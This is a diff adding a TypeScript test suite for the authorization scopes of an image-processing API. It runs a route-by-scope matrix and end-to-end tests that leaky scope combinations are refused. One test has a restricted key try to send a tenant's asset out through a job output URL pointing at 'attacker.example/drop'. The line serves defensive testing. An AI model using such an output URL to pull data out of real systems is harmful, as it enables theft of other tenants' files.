@@ -1,0 +1,319 @@
+/**
+ * The scope model (issue 9, item 3; docs/security-model.md, "Scopes").
+ *
+ * 1. A matrix over every route the app registers × every scope it requires, through `app.inject()`.
+ *    The routes come from the app's own OpenAPI document, where `declareRouteScopes` publishes each
+ *    route's `config.scope(s)`: a route added later is covered without editing this file, and a route
+ *    without a credential must be on UNAUTHENTICATED below with its reason. For each route and each
+ *    scope it requires, a credential holding every other scope is refused with 403 ERR_SCOPE_MISSING;
+ *    a credential holding exactly the required scopes passes the check (the handler then answers: 2xx,
+ *    or 400/404 for the placeholder ids and empty bodies, never 401/403).
+ * 2. The concrete leaks the issue names, against a listening server with fetch: each attack refused
+ *    and its legitimate twin succeeding end to end.
+ */
+import { describe, test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { randomUUID } from 'node:crypto';
+import { join } from 'node:path';
+import Fastify from 'fastify';
+import type { FastifyInstance } from 'fastify';
+import { openTestDb, tempDir, type TestDb } from '../support/db.js';
+import { TEST_SERVER_ENV, masterKeysFor, createTenant, mintKey, startServer, api, type Tenant, type TestServer } from '../support/server.js';
+import { markedPng } from '../support/media.js';
+import { loadConfig } from '../../src/config/index.js';
+import { buildApp } from '../../src/app.js';
+import { createFsStore } from '../../src/assets/stores/fs.js';
+import { SCOPES, type Scope } from '../../src/auth/scopes.js';
+import { declareRouteScopes } from '../../src/http/auth.js';
+import { signTransformPath } from '../../src/jobs/transform.js';
+
+/** Routes that take no API credential, and why (anything else must declare its scopes). */
+const UNAUTHENTICATED: Record<string, string> = {
+  'GET /healthz': 'liveness probe',
+  'GET /readyz': 'readiness probe',
+  'GET /robots.txt': 'crawler policy',
+  'GET /.well-known/jwks.json': 'public keys that verify access tokens (RFC 7517)',
+  'GET /.well-known/oauth-authorization-server': 'authorization server metadata (RFC 8414)',
+  'POST /v1/oauth/token': 'the OAuth client authenticates with its own secret (RFC 6749 §4.4)',
+  'GET /v1/files/{id}': 'signed, expiring download URL (plus a credential with assets:read under require_authorized_urls)',
+  'PUT /v1/uploads/direct/{id}': 'signed, single-use upload URL bound to size and type',
+  'GET /t/{*}': 'signed transform URL (plus a credential with assets:read under require_authorized_urls)',
+  'OPTIONS /v1/uploads': 'tus capability discovery (no data)',
+  'OPTIONS /v1/uploads/{id}': 'tus capability discovery (no data)',
+};
+/** The console authenticates users by session cookie, role and CSRF token, not API scopes (test/auth/console.test.ts). */
+const CONSOLE_PREFIX = '/v1/console/';
+/** Authenticated routes any valid credential may call. */
+const ANY_CREDENTIAL: Record<string, string> = {
+  'GET /v1/whoami': 'describes the calling credential itself',
+};
+
+interface Route {
+  id: string;
+  method: string;
+  path: string;
+  params: Record<string, { pattern?: string; format?: string }>;
+  scopes: Scope[] | null;
+}
+
+/** A well-formed placeholder for a path parameter (so the request reaches the scope check and the handler). */
+function placeholder(name: string, schema: { pattern?: string; format?: string } | undefined, appId: string, path: string): string {
+  if (name === 'id' && path.startsWith('/v1/apps/')) return appId;
+  if (schema?.format === 'uuid') return randomUUID();
+  const prefixed = /^\^([a-z]+)_\[0-9A-Za-z\]\{22\}\$$/.exec(schema?.pattern ?? '');
+  if (prefixed) return `${prefixed[1]}_${'A'.repeat(22)}`;
+  if (name === 'name') return 'thumb';
+  return 'x';
+}
+
+function routesOf(doc: { paths: Record<string, Record<string, { security?: Array<Record<string, string[]>>; parameters?: Array<{ in: string; name: string; schema?: { pattern?: string; format?: string } }> }>> }): Route[] {
+  const out: Route[] = [];
+  for (const [path, ops] of Object.entries(doc.paths)) {
+    for (const [method, op] of Object.entries(ops)) {
+      const params = Object.fromEntries((op.parameters ?? []).filter((p) => p.in === 'path').map((p) => [p.name, p.schema ?? {}]));
+      const sec = op.security?.find((s) => 'bearerAuth' in s);
+      out.push({ id: `${method.toUpperCase()} ${path}`, method: method.toUpperCase(), path, params, scopes: sec ? (sec.bearerAuth as Scope[]) : null });
+    }
+  }
+  return out;
+}
+
+describe('scope matrix: every route × every required scope (inject)', () => {
+  let t: TestDb;
+  let app: FastifyInstance;
+  let tenant: Tenant;
+  let routes: Route[];
+  const keyBySet = new Map<string, string>();
+
+  /** A restricted key holding exactly `scopes` (one per distinct set). */
+  const keyFor = async (scopes: readonly Scope[]): Promise<string> => {
+    const k = [...scopes].sort().join(' ');
+    let secret = keyBySet.get(k);
+    if (!secret) {
+      secret = (await mintKey(t.db, tenant, { kind: 'restricted', name: k, scopes: [...scopes] })).secret;
+      keyBySet.set(k, secret);
+    }
+    return secret;
+  };
+
+  const call = (r: Route, key: string) => {
+    const url = r.path.replace(/\{([^}]+)\}/g, (_m, name: string) => (name === '*' ? 'x' : placeholder(name, r.params[name], tenant.appId, r.path)));
+    const withBody = ['POST', 'PUT', 'PATCH'].includes(r.method);
+    return app.inject({
+      method: r.method as 'GET',
+      url,
+      headers: { authorization: `Bearer ${key}`, 'tus-resumable': '1.0.0', ...(withBody ? { 'content-type': 'application/json' } : {}) },
+      ...(withBody ? { payload: '{}' } : {}),
+    });
+  };
+
+  before(async () => {
+    t = await openTestDb('pglite');
+    // The matrix refuses on purpose many times from one address: keep the failed-auth throttle out of the way.
+    const config = loadConfig({ ...TEST_SERVER_ENV, OBSCURA_PORT: '1', OBSCURA_RATE_LIMIT_AUTH_FAILURES_PER_MINUTE: '1000000', OBSCURA_RATE_LIMIT_PER_MINUTE: '1000000', OBSCURA_RATE_LIMIT_APP_PER_MINUTE: '1000000' });
+    const store = await createFsStore({ root: join(tempDir('obscura-scopes-'), 'blobs') });
+    ({ app } = await buildApp(config, { db: t.db, masterKeys: masterKeysFor(t.db), store, logger: false }));
+    await app.ready();
+    tenant = await createTenant(t.db, 'Scopes');
+    routes = routesOf((await app.inject({ method: 'GET', url: '/docs/json' })).json());
+  });
+  after(async () => {
+    await app?.close();
+    await t?.close();
+  });
+
+  test('every route declares its scopes in OpenAPI, or is on the explained list of routes without an API credential', () => {
+    assert.ok(routes.length > 40, `only ${routes.length} routes found`);
+    const undeclared = routes.filter((r) => r.scopes === null && !(r.id in UNAUTHENTICATED) && !r.path.startsWith(CONSOLE_PREFIX)).map((r) => r.id);
+    assert.deepEqual(undeclared, [], 'routes without a credential that are not on the allowlist');
+    const unscoped = routes.filter((r) => r.scopes !== null && r.scopes.length === 0 && !(r.id in ANY_CREDENTIAL)).map((r) => r.id);
+    assert.deepEqual(unscoped, [], 'authenticated routes that require no scope');
+    const stale = Object.keys(UNAUTHENTICATED).filter((id) => !routes.some((r) => r.id === id));
+    assert.deepEqual(stale, [], 'allowlist entries for routes that no longer exist');
+    for (const r of routes) for (const s of r.scopes ?? []) assert.ok((SCOPES as readonly string[]).includes(s), `${r.id}: unknown scope ${s}`);
+  });
+
+  test('a credential lacking any one required scope is refused with 403 ERR_SCOPE_MISSING naming it, on every route', async () => {
+    const failures: string[] = [];
+    for (const r of routes) {
+      for (const missing of r.scopes ?? []) {
+        const res = await call(r, await keyFor(SCOPES.filter((s) => s !== missing)));
+        const body = res.payload && res.headers['content-type']?.toString().includes('json') ? res.json() : {};
+        // A HEAD answer has no body to carry the code.
+        const named = r.method === 'HEAD' || (body.code === 'ERR_SCOPE_MISSING' && body.missing?.includes(missing));
+        if (res.statusCode !== 403 || !named) {
+          failures.push(`${r.id} without ${missing}: ${res.statusCode} ${body.code}`);
+        }
+      }
+    }
+    assert.deepEqual(failures, []);
+  });
+
+  test('a credential with exactly the required scopes passes the scope check on every route', async () => {
+    const failures: string[] = [];
+    let succeeded = 0;
+    for (const r of routes) {
+      if (r.scopes === null) continue;
+      // Routes open to any credential: the narrowest key that is not the one being described.
+      const res = await call(r, await keyFor(r.scopes.length ? r.scopes : ['usage:read']));
+      const code = res.payload && res.headers['content-type']?.toString().includes('json') ? res.json().code : undefined;
+      if (res.statusCode === 401 || res.statusCode === 403 || res.statusCode === 429 || res.statusCode >= 500) failures.push(`${r.id}: ${res.statusCode} ${code}`);
+      if (res.statusCode < 300) succeeded++;
+    }
+    assert.deepEqual(failures, []);
+    // The list and read routes of the tenant's own app answer 2xx (the rest see placeholder ids or empty bodies).
+    assert.ok(succeeded >= 10, `only ${succeeded} routes answered 2xx`);
+  });
+
+  test('an authenticated route that declares no scope fails at boot, naming the route', async () => {
+    const bare = Fastify();
+    declareRouteScopes(bare);
+    assert.throws(() => bare.get('/v1/forgotten', { config: { auth: true } }, async () => 'x'), /GET \/v1\/forgotten has config.auth but declares no scope/);
+    await bare.close();
+  });
+});
+
+describe('scope leaks of issue 9 item 3, end to end (listening server)', () => {
+  let t: TestDb;
+  let s: TestServer;
+  let a: Tenant;
+  let b: Tenant;
+  let assetId: string;
+  const ops = 'resize:width=40/format:png';
+
+  const mint = (scopes: Scope[]) => mintKey(t.db, a, { kind: 'restricted', name: scopes.join(' '), scopes });
+
+  before(async () => {
+    t = await openTestDb('postgres');
+    s = await startServer(t.db, { env: { OBSCURA_RATE_LIMIT_AUTH_FAILURES_PER_MINUTE: '100000' } });
+    a = await createTenant(t.db, 'Victim');
+    b = await createTenant(t.db, 'Other');
+    const up = await fetch(`${s.url}/v1/assets`, { method: 'POST', headers: { authorization: `Bearer ${a.key}`, 'content-type': 'image/png' }, body: new Uint8Array(await markedPng('scopes')) });
+    assert.equal(up.status, 201);
+    assetId = ((await up.json()) as { id: string }).id;
+  });
+  after(async () => {
+    await s?.close();
+    await t?.close();
+  });
+
+  test('a keys:manage-only key cannot mint a transform key (403 ERR_SCOPE_MISSING); keys:manage + assets:read mints one whose URLs serve the image', async () => {
+    const manager = await mint(['keys:manage']);
+    const refused = await api(s.url, 'POST', `/v1/apps/${a.appId}/transform-keys`, { key: manager.secret });
+    assert.equal(refused.status, 403);
+    assert.equal(refused.body.code, 'ERR_SCOPE_MISSING');
+    assert.deepEqual(refused.body.missing, ['assets:read']);
+    const listed = await api(s.url, 'GET', `/v1/apps/${a.appId}/transform-keys`, { key: a.key });
+    assert.equal(listed.body.data.length, 0, 'nothing was minted');
+
+    const reader = await mint(['keys:manage', 'assets:read']);
+    const created = await api(s.url, 'POST', `/v1/apps/${a.appId}/transform-keys`, { key: reader.secret });
+    assert.equal(created.status, 201);
+    const path = signTransformPath(created.body.id, Buffer.from(created.body.secret, 'base64url'), ops, assetId, Math.floor(Date.now() / 1000) + 600);
+    const img = await fetch(s.url + path);
+    assert.equal(img.status, 200);
+    assert.equal(img.headers.get('content-type'), 'image/png');
+    assert.match(img.headers.get('cache-control') ?? '', /^public/);
+  });
+
+  test("a jobs:write-only key cannot read an asset's content through /v1/process or a job (asset_id, output.put_url); with assets:read it can", async () => {
+    const worker = await mint(['jobs:write']);
+    const sync = await api(s.url, 'POST', '/v1/process', { key: worker.secret, body: { input: { asset_id: assetId }, operations: ops } });
+    assert.equal(sync.status, 403);
+    assert.equal(sync.body.code, 'ERR_SCOPE_MISSING');
+    assert.deepEqual(sync.body.missing, ['assets:read']);
+    const put = await api(s.url, 'POST', '/v1/jobs', { key: worker.secret, body: { input: { asset_id: assetId }, operations: ops, output: { put_url: 'https://attacker.example/drop' } } });
+    assert.equal(put.status, 403);
+    assert.equal(put.body.code, 'ERR_SCOPE_MISSING');
+    const asyncProcess = await api(s.url, 'POST', '/v1/process', { key: worker.secret, body: { input: { asset_id: assetId }, operations: ops }, headers: { prefer: 'respond-async' } });
+    assert.equal(asyncProcess.status, 403);
+    assert.equal(asyncProcess.body.code, 'ERR_SCOPE_MISSING');
+
+    // The same key still processes what it brings itself.
+    const own = await fetch(`${s.url}/v1/process?operations=${encodeURIComponent(ops)}`, { method: 'POST', headers: { authorization: `Bearer ${worker.secret}`, 'content-type': 'image/png' }, body: new Uint8Array(await markedPng('own')) });
+    assert.equal(own.status, 200);
+
+    const reader = await mint(['jobs:write', 'assets:read']);
+    const ok = await fetch(`${s.url}/v1/process`, { method: 'POST', headers: { authorization: `Bearer ${reader.secret}`, 'content-type': 'application/json' }, body: JSON.stringify({ input: { asset_id: assetId }, operations: ops }) });
+    assert.equal(ok.status, 200);
+    assert.equal(ok.headers.get('content-type'), 'image/png');
+    const job = await api(s.url, 'POST', '/v1/jobs', { key: reader.secret, body: { input: { asset_id: assetId }, operations: ops } });
+    assert.equal(job.status, 202);
+  });
+
+  test('an assets:write uploader key cannot delete an asset (403 ERR_SCOPE_MISSING, the asset stays); an assets:delete key can', async () => {
+    const uploader = await mint(['assets:write', 'assets:read']);
+    const refused = await api(s.url, 'DELETE', `/v1/assets/${assetId}`, { key: uploader.secret });
+    assert.equal(refused.status, 403);
+    assert.equal(refused.body.code, 'ERR_SCOPE_MISSING');
+    assert.equal((await api(s.url, 'GET', `/v1/assets/${assetId}`, { key: uploader.secret })).status, 200);
+
+    const up = await fetch(`${s.url}/v1/assets`, { method: 'POST', headers: { authorization: `Bearer ${uploader.secret}`, 'content-type': 'image/png' }, body: new Uint8Array(await markedPng('doomed')) });
+    const doomed = ((await up.json()) as { id: string }).id;
+    const deleter = await mint(['assets:delete']);
+    assert.equal((await api(s.url, 'DELETE', `/v1/assets/${doomed}`, { key: deleter.secret })).status, 204);
+    assert.equal((await api(s.url, 'GET', `/v1/assets/${doomed}`, { key: a.key })).status, 404);
+    // The full secret key of a tenant holds the new scope.
+    const me = await api(s.url, 'GET', '/v1/whoami', { key: a.key });
+    assert.ok(me.body.scopes.includes('assets:delete'));
+  });
+
+  test('a keys:manage key cannot revoke or roll the all-scope key (403, the key keeps working); it can revoke a key with no more scopes than its own', async () => {
+    const manager = await mint(['keys:manage']);
+    const revoke = await api(s.url, 'DELETE', `/v1/keys/${a.keyId}`, { key: manager.secret });
+    assert.equal(revoke.status, 403);
+    assert.equal(revoke.body.code, 'ERR_SCOPE_MISSING');
+    assert.ok(revoke.body.missing.includes('assets:read'));
+    const roll = await api(s.url, 'POST', `/v1/keys/${a.keyId}/roll`, { key: manager.secret, body: { grace_period_seconds: 0 } });
+    assert.equal(roll.status, 403);
+    assert.equal(roll.body.code, 'ERR_SCOPE_MISSING');
+    assert.equal((await api(s.url, 'GET', '/v1/whoami', { key: a.key })).status, 200);
+    const info = await api(s.url, 'GET', `/v1/keys/${a.keyId}`, { key: a.key });
+    assert.equal(info.body.revoked_at, null);
+    assert.equal(info.body.rolled_to, null);
+
+    const peer = await mint(['keys:manage']);
+    assert.equal((await api(s.url, 'DELETE', `/v1/keys/${peer.id}`, { key: manager.secret })).status, 200);
+    assert.equal((await api(s.url, 'GET', '/v1/whoami', { key: peer.secret })).status, 401);
+  });
+
+  test('a keys:manage key cannot revoke an OAuth client that holds more scopes than it does; the full key can', async () => {
+    const manager = await mint(['keys:manage']);
+    const client = await api(s.url, 'POST', `/v1/apps/${a.appId}/oauth-clients`, { key: a.key, body: { scopes: ['assets:read'] } });
+    assert.equal(client.status, 201);
+    const refused = await api(s.url, 'DELETE', `/v1/oauth-clients/${client.body.client.id}`, { key: manager.secret });
+    assert.equal(refused.status, 403);
+    assert.equal(refused.body.code, 'ERR_SCOPE_MISSING');
+    const ok = await api(s.url, 'DELETE', `/v1/oauth-clients/${client.body.client.id}`, { key: a.key });
+    assert.equal(ok.status, 200);
+    assert.ok(ok.body.revoked_at);
+  });
+
+  test('require_authorized_urls covers transform URLs: without a credential 401, without assets:read 403, another org 404, with one 200 and Cache-Control private', async () => {
+    const tk = await api(s.url, 'POST', `/v1/apps/${a.appId}/transform-keys`, { key: a.key });
+    const path = signTransformPath(tk.body.id, Buffer.from(tk.body.secret, 'base64url'), 'resize:width=30/format:png', assetId, Math.floor(Date.now() / 1000) + 600);
+    assert.equal((await fetch(s.url + path)).status, 200, 'public before the setting');
+    const patched = await api(s.url, 'PATCH', `/v1/apps/${a.appId}`, { key: a.key, body: { settings: { require_authorized_urls: true } } });
+    assert.equal(patched.status, 200);
+    // Settings are cached for at most the key cache TTL (2 s).
+    await new Promise((r) => setTimeout(r, 2100));
+    const anonymous = await fetch(s.url + path);
+    assert.equal(anonymous.status, 401);
+    assert.equal(((await anonymous.json()) as { code: string }).code, 'ERR_AUTH_MISSING');
+    const noRead = await mint(['jobs:write']);
+    const refused = await fetch(s.url + path, { headers: { authorization: `Bearer ${noRead.secret}` } });
+    assert.equal(refused.status, 403);
+    assert.equal(((await refused.json()) as { code: string }).code, 'ERR_SCOPE_MISSING');
+    const foreign = await fetch(s.url + path, { headers: { authorization: `Bearer ${b.key}` } });
+    assert.equal(foreign.status, 404);
+    const reader = await mint(['assets:read']);
+    const ok = await fetch(s.url + path, { headers: { authorization: `Bearer ${reader.secret}` } });
+    assert.equal(ok.status, 200);
+    assert.match(ok.headers.get('cache-control') ?? '', /^private/);
+    assert.match(ok.headers.get('vary') ?? '', /Authorization/);
+    // A conditional request is authorized too: a 304 must not confirm the asset to a stranger.
+    const etag = ok.headers.get('etag')!;
+    assert.equal((await fetch(s.url + path, { headers: { 'if-none-match': etag } })).status, 401);
+    await api(s.url, 'PATCH', `/v1/apps/${a.appId}`, { key: a.key, body: { settings: { require_authorized_urls: false } } });
+  });
+});
